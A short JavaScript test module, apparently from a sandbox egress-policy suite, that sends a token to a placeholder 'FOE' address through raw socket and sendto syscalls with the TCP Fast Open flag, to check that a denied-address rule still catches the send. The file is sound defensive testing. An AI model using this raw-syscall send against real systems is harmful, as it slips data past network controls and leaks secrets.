// An addon: TCP Fast Open
// Connects and sends in one sendto.
// policy: denied-address
// audit: explicitlyDeniedIP
// proof: arrival
'use strict';
module.exports = async (at) => {
  const { syscall } = at.native();
  return syscall(44, syscall(41, 2, 1, 0), Buffer.from(at.token), at.token.length, 0x20000000, at.address4(at.FOE, at.PORT), 16) > 0;
};
